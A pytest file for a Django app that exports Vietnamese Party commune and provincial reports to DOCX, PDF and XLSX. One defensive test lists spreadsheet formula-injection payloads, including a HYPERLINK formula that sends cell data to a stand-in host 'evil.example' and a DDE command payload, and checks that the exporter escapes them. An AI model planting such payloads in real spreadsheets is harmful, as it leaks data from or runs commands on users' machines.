import datetime as dt
import io

import pytest
import time_machine
from django.core.management import call_command
from docx import Document
from openpyxl import load_workbook

from lantoa.plans.exports.docx import report_docx
from lantoa.plans.exports.pdf import report_html, report_pdf
from lantoa.plans.exports.xlsx import tables_xlsx
from lantoa.plans.selectors.access import tasks_for_unit
from lantoa.plans.selectors.documents import Table, report_document
from lantoa.plans.services import reports


@pytest.fixture
def submitted(fake_sources, quarter, commune, enterprise_a, commune_officer):
    fake_sources["counts"][enterprise_a.unit_id] = 1234
    binh_hoa = commune("Xã Bình Hòa")
    with time_machine.travel(dt.datetime(2026, 4, 3, 9, tzinfo=dt.UTC)):
        report = reports.report_draft(unit=binh_hoa, period=quarter, by=commune_officer)
        reports.report_edit(report=report, by=commune_officer, signer_name="Lê Minh Tâm")
        return reports.report_submit(report=report, by=commune_officer)


def _document(report):
    return report_document(report, tasks=tasks_for_unit(unit=report.unit))


def test_docx_follows_the_party_document_format(submitted):
    document = Document(io.BytesIO(report_docx(_document(submitted))))
    header = document.tables[0]
    issuer, party = header.rows[0].cells
    assert issuer.text.splitlines() == ["ĐẢNG BỘ TỈNH AN GIANG", "ĐẢNG ỦY XÃ BÌNH HÒA", "*"]
    assert party.text == "ĐẢNG CỘNG SẢN VIỆT NAM"
    number, place_date = header.rows[1].cells
    assert number.text == "Số 1-BC/ĐU"
    assert place_date.text == "An Giang, ngày 03 tháng 4 năm 2026"
    assert place_date.paragraphs[0].runs[0].italic
    texts = [p.text for p in document.paragraphs]
    assert "BÁO CÁO" in texts
    figures = document.tables[1]
    assert [
        figures.rows[-1].cells[1].text,
        figures.rows[-1].cells[3].text,
    ] == ["Số buổi sinh hoạt, tuyên truyền", "1.234"]
    footer = document.tables[-1].rows[0].cells
    assert footer[0].paragraphs[0].text == "Nơi nhận:"
    assert "Lưu Văn phòng." in footer[0].text
    assert "Lê Minh Tâm" in footer[1].text


def test_pdf_is_rendered_from_the_same_document(submitted):
    doc = _document(submitted)
    html = report_html(doc)
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in html and "Số 1-BC/ĐU" in html
    assert report_pdf(doc).startswith(b"%PDF")


def _workbook(doc, tables=None):
    tables = tables if tables is not None else [t for s in doc.sections for t in s.tables]
    content = tables_xlsx(tables, unit=doc.unit_name, period=doc.period_label, heading=doc.subject)
    return load_workbook(io.BytesIO(content))


def test_xlsx_names_the_unit_and_period_and_keeps_numbers_as_numbers(submitted):
    doc = _document(submitted)
    sheet = _workbook(doc).worksheets[0]
    assert sheet["A1"].value == doc.subject
    assert (sheet["A2"].value, sheet["B2"].value) == ("Đơn vị", "Xã Bình Hòa")
    assert (sheet["A3"].value, sheet["B3"].value) == ("Kỳ", submitted.period.label)
    row = next(r for r in sheet.iter_rows() if r[1].value == "Số buổi sinh hoạt, tuyên truyền")
    assert row[3].value == 1234
    assert row[3].data_type == "n"


def test_xlsx_stores_dates_as_dates_and_pdf_tables_keep_rows_whole(submitted):
    doc = _document(submitted)
    table = Table("Nhiệm vụ", ["Nhiệm vụ", "Hạn"], [["Tổ chức hội nghị", dt.date(2026, 6, 30)]])
    cell = _workbook(doc, [table]).worksheets[0]["B6"]
    assert cell.is_date
    assert cell.value.date() == dt.date(2026, 6, 30)
    assert cell.number_format == "dd/mm/yyyy"
    html = report_html(doc)
    assert "thead{display:table-header-group}" in html
    assert "tr{break-inside:avoid" in html


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "=cmd|' /C calc'!A0", "+1", "@SUM(A1:A9)", "-2+3", "\t=1"],
)
def test_xlsx_cells_never_run_a_formula(submitted, hostile):
    doc = _document(submitted)
    table = Table("Doanh nghiệp", ["Tên", "Số"], [[hostile, 5]])
    row = _workbook(doc, [table]).worksheets[0][6]
    assert row[0].value == "'" + hostile
    assert row[0].data_type == "s"
    assert (row[1].value, row[1].data_type) == (5, "n")


def test_plans_report_command_writes_the_province_report_by_default(fake_sources, provincial_plan, tmp_path, capsys):
    out = tmp_path / "tinh.docx"
    call_command("plans_report", "--period", "2026-Q1", "--format", "docx", "--out", str(out))
    document = Document(str(out))
    assert document.tables[0].rows[0].cells[0].text.splitlines()[:2] == [
        "TỈNH ỦY AN GIANG",
        "BAN TUYÊN GIÁO VÀ DÂN VẬN",
    ]
    assert "Tỉnh An Giang" in capsys.readouterr().out


def test_plans_report_command_writes_xlsx_for_a_commune(fake_sources, commune, tmp_path):
    out = tmp_path / "xa.xlsx"
    call_command(
        "plans_report",
        "--unit",
        commune("Xã Bình Hòa").code,
        "--period",
        "2026-Q1",
        "--format",
        "xlsx",
        "--out",
        str(out),
    )
    assert load_workbook(str(out)).sheetnames == ["Kết quả thực hiện các chỉ tiêu", "Nhiệm vụ được giao"]
